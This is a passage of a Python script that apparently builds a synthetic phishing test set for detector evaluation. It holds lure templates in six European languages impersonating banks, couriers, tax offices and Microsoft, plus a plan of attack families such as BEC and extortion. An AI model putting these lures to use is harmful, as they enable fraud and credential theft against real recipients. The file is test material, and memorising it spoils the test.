            "Por motivos de segurança, o acesso ao Millennium Online foi temporariamente suspenso.",
            "Confirme a sua identidade para reativar o serviço.",
        ],
        "Reativar acesso",
    ),
    (
        "pt",
        "Portal das Finanças",
        "portaldasfinancas.gov.pt",
        ["utf-8", "iso-8859-1"],
        ["Autoridade Tributária: reembolso de IRS disponível", "Notificação: dívida fiscal pendente"],
        "Autoridade Tributária e Aduaneira",
        [
            "Informamos que tem um reembolso de IRS no valor de {eur} disponível.",
            "Para receber o reembolso, confirme os seus dados bancários no portal.",
        ],
        "Consultar reembolso",
    ),
    (
        "pt",
        "Correios",
        "correios.com.br",
        ["utf-8", "iso-8859-1"],
        ["Correios: sua encomenda foi taxada", "Objeto aguardando pagamento - {ref}"],
        "Encomenda aguardando pagamento",
        [
            "Olá,",
            "Seu objeto {ref} foi taxado e está aguardando o pagamento da taxa de importação de R$ {n},90.",
            "Realize o pagamento via Pix para liberar a entrega.",
        ],
        "Pagar taxa",
    ),
    (
        "pt",
        "Nubank",
        "nubank.com.br",
        ["utf-8"],
        ["Nubank: compra não reconhecida", "Seu cartão foi bloqueado"],
        "Compra suspeita identificada",
        [
            "Identificamos uma compra de R$ {n}9,90 no seu cartão final {d4}.",
            "Se não reconhece esta compra, acesse o link para bloqueá-la.",
        ],
        "Não reconheço",
    ),
    (
        "de",
        "DHL",
        "dhl.de",
        ["utf-8", "iso-8859-1", "windows-1252"],
        [
            "Ihre Sendung {ref} konnte nicht zugestellt werden",
            "DHL: Zollgebühren ausstehend",
            "Paketbenachrichtigung: Zustellversuch fehlgeschlagen",
        ],
        "Ihr Paket wartet auf Sie",
        [
            "Sehr geehrte Kundin, sehr geehrter Kunde,",
            "Ihre Sendung {ref} wurde in unserem Verteilzentrum zurückgehalten. Es fallen Zollgebühren in Höhe von {eur} an.",
            "Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.",
        ],
        "Jetzt bezahlen",
    ),
    (
        "de",
        "Sparkasse",
        "sparkasse.de",
        ["utf-8", "iso-8859-1"],
        ["Wichtig: Aktualisierung Ihres S-pushTAN Verfahrens", "Ihr Online-Banking wurde eingeschränkt"],
        "Sicherheitsmitteilung",
        [
            "Sehr geehrte Kundin, sehr geehrter Kunde,",
            "aufgrund neuer EU-Richtlinien (PSD2) müssen Sie Ihr pushTAN-Verfahren bis zum {date} erneut bestätigen.",
            "Andernfalls wird Ihr Zugang zum Online-Banking gesperrt.",
        ],
        "Jetzt bestätigen",
    ),
    (
        "de",
        "PayPal",
        "paypal.de",
        ["utf-8", "windows-1252"],
        ["Ihr PayPal-Konto wurde eingeschränkt", "Bestätigen Sie Ihre Identität"],
        "Ihr Konto ist vorübergehend eingeschränkt",
        [
            "Hallo {name},",
            "wir haben ungewöhnliche Aktivitäten in Ihrem Konto festgestellt und einige Funktionen eingeschränkt.",
            "Bitte melden Sie sich an und bestätigen Sie Ihre Angaben.",
        ],
        "Einloggen",
    ),
    (
        "de",
        "Microsoft Outlook",
        "microsoft.com",
        ["utf-8", "iso-8859-1"],
        ["Ihr Postfach ist voll ({n}%)", "Ihr Kennwort läuft heute ab"],
        "Speicherplatz fast aufgebraucht",
        [
            "Ihr Postfach {rcpt} hat das Speicherlimit erreicht.",
            "Eingehende E-Mails werden abgewiesen. Klicken Sie unten, um zusätzlichen Speicherplatz kostenlos freizuschalten.",
        ],
        "Speicher erweitern",
    ),
    (
        "de",
        "Deutsche Telekom",
        "telekom.de",
        ["utf-8"],
        ["Ihre Telekom Rechnung {ref}", "Zahlung fehlgeschlagen - Mobilfunkvertrag"],
        "Ihre Rechnung",
        [
            "Guten Tag,",
            "die Abbuchung Ihrer Rechnung über {eur} ist fehlgeschlagen.",
            "Bitte aktualisieren Sie Ihre Zahlungsdaten, um eine Sperrung zu vermeiden.",
        ],
        "Zahlungsdaten aktualisieren",
    ),
    (
        "fr",
        "La Poste Colissimo",
        "laposte.fr",
        ["utf-8", "iso-8859-1", "windows-1252"],
        [
            "Colissimo : votre colis est en attente de livraison",
            "Avis de passage - frais de réexpédition",
            "Votre colis {ref} est bloqué",
        ],
        "Votre colis est en attente",
        [
            "Bonjour,",
            "Votre colis {ref} n'a pas pu être livré car des frais de port de {eur} n'ont pas été réglés.",
            "Veuillez planifier une nouvelle livraison sous 48 heures.",
        ],
        "Programmer la livraison",
    ),
    (
        "fr",
        "Ameli",
        "ameli.fr",
        ["utf-8", "iso-8859-1"],
        ["Assurance Maladie : votre nouvelle carte Vitale", "Ameli : remboursement en attente de {eur}"],
        "Votre carte Vitale expire",
        [
            "Cher(e) assuré(e),",
            "Votre carte Vitale arrive à expiration. Afin d'éviter toute interruption de vos remboursements, commandez votre nouvelle carte dès aujourd'hui.",
            "Des frais d'envoi de 1,49 € s'appliquent.",
        ],
        "Commander ma carte",
    ),
    (
        "fr",
        "impots.gouv.fr",
        "dgfip.finances.gouv.fr",
        ["utf-8", "windows-1252"],
        ["Avis de remboursement d'impôt - {eur}", "DGFiP : vous avez un trop-perçu"],
        "Remboursement d'impôt",
        [
            "Après les derniers calculs de votre activité fiscale annuelle, nous avons déterminé que vous êtes éligible à un remboursement de {eur}.",
            "Merci de compléter le formulaire avant le {date}.",
        ],
        "Accéder au formulaire",
    ),
    (
        "fr",
        "ANTAI",
        "antai.gouv.fr",
        ["utf-8", "iso-8859-1"],
        ["ANTAI : avis de contravention non réglé", "Amende forfaitaire majorée - dernier rappel"],
        "Avis de contravention",
        [
            "Madame, Monsieur,",
            "Nous vous informons qu'une amende de 35,00 € reste impayée. Sans paiement sous 72 heures, elle sera majorée à 135,00 €.",
        ],
        "Payer l'amende",
    ),
    (
        "fr",
        "Crédit Agricole",
        "credit-agricole.fr",
        ["utf-8", "iso-8859-1"],
        ["Crédit Agricole : activation de SécuriPass requise", "Votre accès en ligne a été suspendu"],
        "Mise à jour de sécurité",
        [
            "Cher client,",
            "Conformément à la directive DSP2, vous devez activer le nouveau dispositif SécuriPass avant le {date}.",
            "Passé ce délai, votre accès sera bloqué.",
        ],
        "Activer SécuriPass",
    ),
    (
        "it",
        "Poste Italiane",
        "poste.it",
        ["utf-8", "iso-8859-1", "windows-1252"],
        ["Poste Italiane: il tuo pacco è in giacenza", "Avviso di mancata consegna - {ref}"],
        "La tua spedizione è in giacenza",
        [
            "Gentile cliente,",
            "la spedizione {ref} è in giacenza presso il nostro centro di smistamento per mancato pagamento delle spese doganali ({eur}).",
            "Se il pagamento non viene effettuato entro 48 ore, il pacco verrà restituito al mittente.",
        ],
        "Paga ora",
    ),
    (
        "it",
        "Intesa Sanpaolo",
        "intesasanpaolo.com",
        ["utf-8", "iso-8859-1"],
        ["Intesa Sanpaolo: accesso sospeso", "Avviso di sicurezza sul tuo conto"],
        "Il tuo conto è stato limitato",
        [
            "Gentile cliente,",
            "abbiamo rilevato un accesso anomalo al tuo conto. Per motivi di sicurezza l'operatività è stata temporaneamente sospesa.",
            "Verifica la tua identità per riattivare il servizio.",
        ],
        "Verifica ora",
    ),
    (
        "it",
        "Agenzia delle Entrate",
        "agenziaentrate.gov.it",
        ["utf-8", "windows-1252"],
        [
            "Agenzia delle Entrate: rimborso fiscale di {eur}",
            "Comunicazione: irregolarità nella dichiarazione",
        ],
        "Rimborso fiscale",
        [
            "Dopo gli ultimi calcoli della sua attività fiscale, risulta idoneo a ricevere un rimborso di {eur}.",
            "Compili il modulo allegato per ricevere il rimborso.",
        ],
        "Richiedi rimborso",
    ),
    (
        "it",
        "BRT",
        "brt.it",
        ["utf-8", "iso-8859-1"],
        ["BRT: conferma indirizzo di consegna", "La tua spedizione {ref} è in attesa"],
        "Spedizione in attesa",
        [
            "Ciao,",
            "non siamo riusciti a consegnare il tuo pacco. Conferma l'indirizzo e paga il contributo di {eur}.",
        ],
        "Conferma indirizzo",
    ),
    (
        "it",
        "Microsoft 365",
        "microsoft.com",
        ["utf-8"],
        ["La tua password scade oggi", "Hai {n} messaggi in sospeso"],
        "Scadenza password",
        ["La password per {rcpt} scade oggi.", "Fai clic qui sotto per mantenere la password attuale."],
        "Mantieni la password",
    ),
    (
        "nl",
        "PostNL",
        "postnl.nl",
        ["utf-8", "iso-8859-1", "windows-1252"],
        ["PostNL: uw pakket kon niet worden bezorgd", "Douanekosten openstaand voor zending {ref}"],
        "Uw pakket ligt klaar",
        [
            "Beste klant,",
            "Uw zending {ref} is aangekomen maar kan niet worden bezorgd omdat er nog {eur} invoerkosten openstaan.",
            "Betaal binnen 48 uur, anders wordt het pakket teruggestuurd.",
        ],
        "Nu betalen",
    ),
    (
        "nl",
        "ING",
        "ing.nl",
        ["utf-8", "iso-8859-1"],
        ["ING: uw betaalpas verloopt binnenkort", "Belangrijk: verifieer uw gegevens"],
        "Uw betaalpas verloopt",
        [
            "Geachte klant,",
            "Uw huidige betaalpas verloopt op {date}. Vraag direct een nieuwe pas aan om onderbreking te voorkomen.",
            "Dit duurt minder dan 3 minuten.",
        ],
        "Nieuwe pas aanvragen",
    ),
    (
        "nl",
        "Belastingdienst",
        "belastingdienst.nl",
        ["utf-8", "windows-1252"],
        ["Belastingdienst: teruggave van {eur}", "Laatste herinnering: openstaande aanslag"],
        "Teruggave inkomstenbelasting",
        [
            "Na de laatste jaarlijkse berekening heeft u recht op een teruggave van {eur}.",
            "Log in met DigiD om de teruggave te ontvangen.",
        ],
        "Inloggen met DigiD",
    ),
    (
        "nl",
        "DigiD",
        "digid.nl",
        ["utf-8", "iso-8859-1"],
        ["Uw DigiD wordt gedeactiveerd", "DigiD: activeer de nieuwe app"],
        "Actie vereist",
        [
            "Beste gebruiker,",
            "Uw DigiD is lange tijd niet gebruikt en wordt binnen 5 dagen gedeactiveerd.",
            "Bevestig uw gegevens om uw DigiD te behouden.",
        ],
        "DigiD behouden",
    ),
    (
        "nl",
        "KPN",
        "kpn.com",
        ["utf-8"],
        ["Uw KPN factuur kon niet worden geïncasseerd", "KPN: betaling mislukt"],
        "Betaling mislukt",
        [
            "Beste klant,",
            "Het bedrag van {eur} kon niet worden afgeschreven. Voorkom afsluiting en betaal nu.",
        ],
        "Betaal factuur",
    ),
    (
        "pl",
        "InPost",
        "inpost.pl",
        ["utf-8", "iso-8859-2"],
        ["InPost: Twoja paczka czeka na dopłatę", "Paczka {ref} nie mogła zostać doręczona"],
        "Twoja paczka czeka",
        [
            "Dzień dobry,",
            "Twoja przesyłka {ref} oczekuje w paczkomacie. Aby ją odebrać, należy uiścić dopłatę w wysokości {pln}.",
            "Po 48 godzinach paczka zostanie zwrócona do nadawcy.",
        ],
        "Zapłać teraz",
    ),
    (
        "pl",
        "PKO Bank Polski",
        "pkobp.pl",
        ["utf-8", "iso-8859-2"],
        ["PKO BP: Twoje konto zostało zablokowane", "Wymagana aktualizacja danych w iPKO"],
        "Komunikat bezpieczeństwa",
        [
            "Szanowny Kliencie,",
            "wykryliśmy podejrzane logowanie do Twojego konta z nieznanego urządzenia.",
            "W celu odblokowania dostępu prosimy o potwierdzenie tożsamości.",
        ],
        "Potwierdź tożsamość",
    ),
    (
        "pl",
        "mObywatel",
        "gov.pl",
        ["utf-8", "iso-8859-2"],
        ["Zwrot podatku PIT: {pln}", "e-Urząd Skarbowy: nadpłata podatku"],
        "Zwrot nadpłaty podatku",
        [
            "Szanowny Podatniku,",
            "po ponownym przeliczeniu Twojego zeznania przysługuje Ci zwrot w wysokości {pln}.",
            "Zaloguj się, aby podać numer rachunku bankowego.",
        ],
        "Odbierz zwrot",
    ),
    (
        "pl",
        "Allegro",
        "allegro.pl",
        ["utf-8", "iso-8859-2"],
        ["Allegro: weryfikacja konta sprzedającego", "Twoje konto Allegro zostało zawieszone"],
        "Weryfikacja konta",
        [
            "Cześć,",
            "Twoje konto zostało tymczasowo zawieszone z powodu nietypowej aktywności.",
            "Zweryfikuj dane, aby przywrócić dostęp.",
        ],
        "Zweryfikuj",
    ),
    (
        "pl",
        "Microsoft 365",
        "microsoft.com",
        ["utf-8", "iso-8859-2"],
        ["Twoje hasło wygasa dzisiaj", "Masz {n} wstrzymanych wiadomości"],
        "Wygaśnięcie hasła",
        ["Hasło do konta {rcpt} wygasa dzisiaj.", "Kliknij poniżej, aby zachować obecne hasło."],
        "Zachowaj hasło",
    ),
    (
        "pl",
        "DPD Polska",
        "dpd.com.pl",
        ["utf-8", "iso-8859-2"],
        ["DPD: niezapłacone cło za przesyłkę {ref}", "Aktualizacja adresu dostawy"],
        "Przesyłka wstrzymana",
        [
            "Dzień dobry,",
            "Twoja przesyłka została wstrzymana z powodu nieopłaconego cła ({pln}).",
            "Opłać należność, aby otrzymać paczkę.",
        ],
        "Opłać",
    ),
]


def f_foreign(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    lang, brand, bdom, charsets, subjects, heading, paras, button = FOREIGN[i % len(FOREIGN)]
    vals = {
        "ref": r.choice(
            [
                f"{rs(r, 2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{digits(r, 9)}{r.choice(['ES', 'PT', 'DE', 'FR', 'IT', 'NL', 'PL'])}",
                digits(r, 12),
                f"JJD{digits(r, 15)}",
            ]
        ),
        "eur": f"{r.choice(['1,99', '2,49', '2,99', '3,15', '0,95', '1,79', '287,40', '459,12'])} €",
        "pln": f"{r.choice(['1,99', '2,49', '4,99', '3,20'])} zł",
        "year": str(r.choice([2023, 2024, 2025])),
        "n": str(r.randint(3, 98)),
        "d4": digits(r, 4),
        "date": rdate(r).strftime("%d/%m/%Y"),
        "rcpt": rcpt,
        "name": who(rcpt),
    }
    if lang == "de":
        vals["date"] = rdate(r).strftime("%d.%m.%Y")
    url = lure_link(r, brand.split()[0], rcpt)
    subj = r.choice(subjects).format(**vals)
    lu = Lure(
        heading.format(**vals),
        [p.format(**vals) for p in paras],
        button,
        url,
        brand=brand,
        color=r.choice(["#ffcc00", "#004481", "#e30613", "#ec0000", "#ff6200", "#00a0e1"]),
    )
    cs = r.choice(charsets)
    return send(
        r,
        brand,
        bdom,
        subj,
        lu,
        rcpt,
        cs=cs,
        level=0.35,
        extra=[("Content-Language", lang)] if r.random() < 0.4 else [],
    )


PLAN: list[tuple[str, Builder, int]] = [
    ("m365-credential", f_m365, 16),
    ("voicemail-fax", f_voicemail_fax, 8),
    ("saas-credential", f_saas, 14),
    ("webmail-own-domain", f_webmail, 10),
    ("billing-brands", f_billing, 12),
    ("parcel-customs", f_parcel, 12),
    ("toll-parking", f_toll, 8),
    ("tax-government", f_tax, 10),
    ("crypto", f_crypto, 8),
    ("social-media", f_social, 8),
    ("invoice-attachments", f_invoice, 16),
    ("bec", f_bec, 16),
    ("qr-code", f_qr, 8),
    ("hr-payroll", f_hr, 8),
    ("domain-hosting", f_domain, 6),
    ("callback", f_callback, 10),
    ("service-abuse", f_service_abuse, 13),
    ("foreign-language", f_foreign, 37),
    ("extortion", f_extortion, 4),
]
FAMILIES = [f for f, _, _ in PLAN]


def messages(split: str = "test", seed: int = 1) -> list[tuple[str, bytes]]:
    """The set, ``(name, RFC 5322 bytes)``; only ``test`` exists (``dev`` is empty)."""
    if split == "dev":
        return []
    out: list[tuple[str, bytes]] = []
    for family, build, calls in PLAN:
        rng = random.Random(f"{seed}:{family}")
        for i in range(calls):
            out.append((f"{family}-{i + 1:04d}", build(rng, i)))
    return out


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", type=Path, default=None)
    args = ap.parse_args(argv)
    msgs = messages("test", args.seed)
    counts: dict[str, int] = {}
    for name, _ in msgs:
        fam = name.rsplit("-", 1)[0]
        counts[fam] = counts.get(fam, 0) + 1
    for fam in FAMILIES:
        print(f"{fam:20} {counts.get(fam, 0):4}")
    print(f"{'total':20} {len(msgs):4}")
    if args.out:
        args.out.mkdir(parents=True, exist_ok=True)
        for name, data in msgs:
            (args.out / f"{name}.eml").write_bytes(data)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
